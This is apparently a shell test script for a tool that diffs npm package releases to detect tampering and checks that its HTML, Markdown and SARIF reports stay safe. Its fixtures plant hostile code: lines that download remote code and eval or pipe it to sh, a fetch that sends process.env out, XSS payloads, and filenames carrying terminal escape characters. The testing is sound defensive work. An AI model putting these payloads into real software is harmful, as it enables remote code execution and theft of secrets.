#!/bin/sh
# A result in every format: what `report` makes of the JSON is what the run itself wrote; nothing from a
# release acts on a page, a comment or a SARIF viewer; other people's validators accept it.
. "$(dirname "$0")/lib.sh"

sarif() {
	checks=$((checks + 1))
	cp "$ROOT/node_modules/@microsoft/sarif-multitool-linux/Sarif.Multitool" multitool && chmod u+x multitool
	DOTNET_SYSTEM_GLOBALIZATION_INVARIANT=1 ./multitool validate "$@" --output checked.sarif --log ForceOverwrite >multi 2>&1 ||
		fail "multitool refuses one of $*: $(grep -E 'error' multi | head -3)"
	! grep -q 'error ' multi || fail "multitool finds errors in $*: $(grep 'error ' multi | head -3)"
	for f in "$@"; do grep -q "$f" multi || fail "multitool did not look at $f"; done
	grep -q 'Analysis completed successfully' multi || fail "multitool did not look at $*"
}

formats='json json-v1 jsonl html md sarif'

release old 1.0.0
release new 1.0.1 "require('https').get('https://cdn.stats.example/x', (r) => r.on('data', (d) => eval(d.toString())));"

# ---- the same, whether made at once or from the JSON
is 1 diff old.tgz new.tgz -o json=r.json -o json-v1=r.json-v1 -o jsonl=r.jsonl -o html=r.html -o md=r.md -o sarif=r.sarif
for f in $formats; do
	is 0 report --format $f r.json
	same out r.$f
	[ ! -s err ] || fail "report --format $f talks"
done
is 1 inspect new.tgz -o json=i.json -o html=i.html -o md=i.md -o sarif=i.sarif -o jsonl=i.jsonl
for f in json jsonl html md sarif; do
	is 0 report --format $f i.json
	same out i.$f
done
is 0 report r.json
has out 'TAMPERED   greeter 1.0.0 → 1.0.1'
has out 'cdn.stats.example'
"$ASSAY" report - --format json <r.json >out 2>err || fail 'report - does not read stdin'
same out r.json
ok 'jsonl: a line a finding' test "$(wc -l <r.jsonl)" -eq "$(node -p 'JSON.parse(require("fs").readFileSync("r.json")).findings.length')"
is 0 diff old.tgz old.tgz --format jsonl
has out '"finding": null'

# ---- what stood there before, beside what stands there now
release then 1.0.0 "const first = require('./first');
const feed = '<b onclick=one> & more';
const last = require('./last');"
release now 1.0.1 "const first = require('./first');
require('https').get('https://cdn.stats.example/x', (r) => r.on('data', (d) => eval(d.toString())));
const last = require('./last');"
is 1 diff then.tgz now.tgz -o json=was.json -o html=was.html -o md=was.md
has out "const feed = '<b onclick=one> & more';"
ok 'the JSON says what stood there' node -e '
	const f = JSON.parse(require("fs").readFileSync("was.json")).findings;
	process.exit(f.some((x) => x.untrusted.before === "const feed = \x27<b onclick=one> & more\x27;") ? 0 : 1)'
has was.html '<div class=sides>'
has was.html '&lt;b onclick=one&gt; &amp; more'
has was.md 'onclick=one'
for f in html md; do
	is 0 report --format $f was.json
	same out was.$f
done
release more 1.0.1 "const first = require('./first');
const feed = '<b onclick=one> & more';
require('https').get('https://cdn.stats.example/x', (r) => r.on('data', (d) => eval(d.toString())));
const last = require('./last');"
is 1 diff then.tgz more.tgz -o json=more.json
ok 'what is only new has nothing before it' test "$(grep -c '"before"' more.json)" -eq 0

# ---- what is no result
printf '{' >bad1
printf '{"schema": "assay.diff.v1"}' >bad2
printf '{"schema": "assay.diff.v9", "verdict": "clean"}' >bad3
printf '[]' >bad4
printf '{"schema": "assay.diff.v1", "verdict": "clean", "verdict": "tampered"}' >bad5
: >bad6
for f in bad1 bad2 bad3 bad4 bad5 bad6; do
	is 2 report $f -o html=none.html
	ok "$f leaves no report" test ! -e none.html
done
is 2 report nothing-here
is 2 report .
is 2 report r.json --format csv
is 2 report r.json -o html=r.html
has err '--force replaces it'
# Values of other kinds do no harm.
printf '{"schema": "assay.diff.v1", "verdict": "review", "old": 1, "new": [], "findings": [1, null, {"where": "x", "weight": "y", "flow": [1, "a"], "attack": {}}], "delta": {"renamed": [{}, 2]}, "coverage": {"blind": [3]}, "provenance": {"breaks": "no"}, "cost": {"steps": -5}}' >odd
for f in text $formats; do
	is 0 report odd --format $f
done

# ---- a release whose author writes for the reader of the report
mkdir -p bad/package/lib
cp old/package/package.json bad/package/
evil='<script>alert(1)</script>"onmouseover=alert(2) `x` |a| ![p](http://a.example/p.png) @team'
printf "const t = '%s';\nrequire('child_process').exec('curl https://cdn.stats.example/ | sh; # %s');\nfetch('https://x.example/?<img src=x onerror=alert(3)>' + process.env);\n" "$evil" "$evil" >bad/package/lib/index.js
printf 'x' >"bad/package/lib/<img src=x onerror=alert(4)>|\`.js"
printf 'x' >"$(printf 'bad/package/lib/a\033[31m\302\205\342\200\256b]]>\nc@team.js')"
tar --sort=name --owner=0 --group=0 --mtime=@0 -C bad -czf bad.tgz package
is 1 diff old.tgz bad.tgz -o json=b.json -o html=b.html -o md=b.md -o sarif=b.sarif -o jsonl=b.jsonl
for f in b.html b.md b.sarif b.jsonl; do
	checks=$((checks + 1))
	if LC_ALL=C grep -qP '\x1b|\xe2\x80\xae|\xc2\x85' $f; then fail "$f holds what acts on a screen"; fi
done
lacks b.html '<script'
lacks b.html '<img'
# Outside code there is nothing that Markdown or a code host would obey.
awk '/^`+text$/ { f = 1 } !f { gsub(/`[^`]*`/, ""); print } /^`+$/ { f = 0 }' b.md >outside
checks=$((checks + 1))
if grep -E '<(script|img)|@team|!\[' outside; then fail 'Markdown obeys the release'; fi

sarif r.sarif i.sarif b.sarif
ok 'pages load nothing, say nothing and can be read by everybody' node "$ROOT/tests/cli/browser.js" "$ROOT" r.html i.html b.html
done_
